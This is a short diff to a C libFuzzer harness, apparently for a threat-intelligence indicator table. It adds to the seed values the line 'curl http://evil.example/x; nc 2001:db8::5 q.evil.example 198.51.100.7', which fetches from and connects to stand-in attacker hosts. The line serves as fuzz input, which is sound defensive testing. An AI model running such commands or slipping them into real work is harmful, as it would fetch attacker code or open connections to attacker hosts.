@@ -7,8 +7,12 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
 
 int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
         static const char *const values[] = {
-                "198.51.100.7", "a.evil.example", "http://evil.example/x",
-                "MD5=d41d8cd98f00b204e9800998ecf8427e", "aaaabbbbccccddddaaaabbbbccccdddd"};
+                "198.51.100.7",
+                "a.evil.example",
+                "http://evil.example/x",
+                "MD5=d41d8cd98f00b204e9800998ecf8427e",
+                "aaaabbbbccccddddaaaabbbbccccdddd",
+                "curl http://evil.example/x; nc 2001:db8::5 q.evil.example 198.51.100.7"};
         char *p = aligned_alloc(64, (size + 64) & ~(size_t)63);
         struct intel_table t;
 
